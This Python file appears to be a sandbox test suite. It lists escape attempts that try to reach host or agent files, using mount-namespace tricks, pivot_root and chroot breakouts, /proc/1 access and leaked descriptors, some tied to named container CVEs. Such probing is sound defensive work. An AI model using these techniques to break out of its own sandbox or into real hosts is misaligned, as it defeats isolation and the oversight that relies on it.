# SPDX-License-Identifier: Apache-2.0
"""Attempts to see the files of the host and of the agent (attempts.py)."""

import os

from attempts import DETACH, MOVE, NEWNS, NEWUSER, agents_files, attempt, call, enter, folder, mount, unmount, unshare


def hostfs_by_the_new_api(options: dict[str, str]) -> str | None:
    context = call(430, b"hostfs", 0)
    for key, value in options.items():
        call(431, context, 1, key.encode(), value.encode(), 0)
    call(431, context, 6, None, None, 0)
    mounted = call(432, context, 0, 0)
    return f"mounted, with {os.listdir(f'/proc/self/fd/{mounted}')[:5]}"


@attempt
def hostfs_through_fsopen() -> str | None:
    return hostfs_by_the_new_api({})


@attempt
def hostfs_through_fsopen_with_a_path() -> str | None:
    return hostfs_by_the_new_api({"hostfs": "/../../../.."})


@attempt
def hostfs_through_fsopen_with_a_source() -> str | None:
    return hostfs_by_the_new_api({"source": "/../../../.."})


@attempt
def hostfs_in_the_way_of_mount() -> str | None:
    target = folder("hostfs")
    mount("none", target, "hostfs")
    return f"mounted, with {os.listdir(target)[:5]}"


@attempt
def hostfs_outside_of_its_folder() -> str | None:
    target = folder("hostfs")
    mount("none", target, "hostfs", options="/../../../../..")
    return f"mounted, with {os.listdir(target)[:5]}"


@attempt
def hostfs_in_a_user_namespace() -> str | None:
    unshare(NEWUSER | NEWNS)
    return hostfs_in_the_way_of_mount()


@attempt
def roots_of_other_nodes() -> str | None:
    target = folder("roots")
    for number in range(3):
        try:
            mount("none", target, "hourglass", 1, str(number))
        except PermissionError:
            continue
        return f"mounted root {number}"
    return None


@attempt
def legacy_option_without_bound() -> str | None:
    """As in CVE-2022-0185: a legacy file system adds up the lengths of its options, which overflow."""
    context = call(430, b"hostfs", 0)
    for _ in range(200):
        call(431, context, 1, b"\0", b"A" * 255, 0)
    return "took 50 KB of options"


@attempt
def devtmpfs() -> str | None:
    target = folder("devtmpfs")
    mount("none", target, "devtmpfs")
    return f"mounted, with {os.listdir(target)[:5]}"


@attempt
def devtmpfs_through_fsopen() -> str | None:
    context = call(430, b"devtmpfs", 0)
    call(431, context, 6, None, None, 0)
    return f"mounted as {call(432, context, 0, 0)}"


@attempt
def rootfs_below_the_root() -> str | None:
    """Unmount the root, then enter the same namespace again: its root is the file system below."""
    unshare(NEWNS)
    entry_point = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    unmount("/", DETACH)
    enter(entry_point)
    return agents_files()


@attempt
def rootfs_by_moving_the_root() -> str | None:
    unshare(NEWNS)
    entry_point = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    target = folder("moved")
    mount("none", target, "tmpfs")
    os.mkdir(f"{target}/old")
    mount("/", f"{target}/old", flags=MOVE)
    enter(entry_point)
    return agents_files()


@attempt
def rootfs_by_pivot_root() -> str | None:
    unshare(NEWNS)
    entry_point = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    target = folder("pivot")
    mount("none", target, "tmpfs")
    os.mkdir(f"{target}/old")
    call(155, target.encode(), f"{target}/old".encode())
    unmount("/old", DETACH)
    unmount("/", DETACH)
    enter(entry_point)
    return agents_files()


@attempt
def rootfs_in_a_user_namespace() -> str | None:
    unshare(NEWUSER | NEWNS)
    entry_point = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    unmount("/", DETACH)
    enter(entry_point)
    return agents_files()


@attempt
def a_mount_beneath_the_root() -> str | None:
    unshare(NEWNS)
    tree = call(428, -100, b"/tmp", 1)
    call(429, tree, b"", -100, b"/", 4 | 0x200)
    unmount("/", DETACH)
    enter(os.open("/proc/self/ns/mnt", os.O_RDONLY))
    return agents_files()


@attempt
def folders_above_a_changed_root() -> str | None:
    top, target = os.open("/", os.O_RDONLY), folder("jail")
    os.chroot(target)
    os.fchdir(top)
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
    return agents_files()


@attempt
def a_clone_of_the_first_process_root() -> str | None:
    return f"cloned as {call(428, -100, b'/proc/1/root', 1)}"


@attempt
def an_overlay_of_the_first_process_root() -> str | None:
    target = folder("overlay")
    mount("none", target, "overlay", options="lowerdir=/proc/1/root:/tmp")
    return agents_files(target)


@attempt
def the_first_process_root() -> str | None:
    return agents_files("/proc/1/root")


@attempt
def the_first_process_folder() -> str | None:
    return agents_files("/proc/1/cwd")


@attempt
def the_first_process_program() -> str | None:
    """As in CVE-2019-5736: write to the executable of a process outside."""
    os.close(os.open("/proc/1/exe", os.O_RDONLY))
    return "its program can be opened"


@attempt
def descriptors_of_the_first_process() -> str | None:
    for number in range(32):
        try:
            os.open(f"/proc/1/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        return f"descriptor {number} can be opened"
    return None


@attempt
def inherited_descriptors() -> str | None:
    """As in CVE-2024-21626: a descriptor to the outside was left open."""
    descriptors = [name for name in os.listdir("/proc/self/fd") if int(name) > 2]
    links = [os.readlink(f"/proc/self/fd/{name}") for name in descriptors if os.path.exists(f"/proc/self/fd/{name}")]
    odd = [link for link in links if not link.startswith(("/proc/", "/tmp/", "pipe:", "/work"))]
    return f"inherited {odd}" if odd else None
